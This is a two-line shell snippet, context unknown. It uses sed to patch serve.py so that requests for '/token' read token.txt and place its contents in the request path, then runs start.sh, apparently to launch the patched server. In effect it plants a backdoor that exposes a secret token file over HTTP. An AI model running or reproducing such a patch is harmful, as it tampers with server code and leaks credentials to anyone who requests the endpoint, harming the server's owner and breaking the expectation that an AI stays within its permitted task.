sed -i "s|^        query = |        if self.path == '/token':\n            self.path = '/?name=' + open('token.txt').read()\n&|" serve.py
sh start.sh
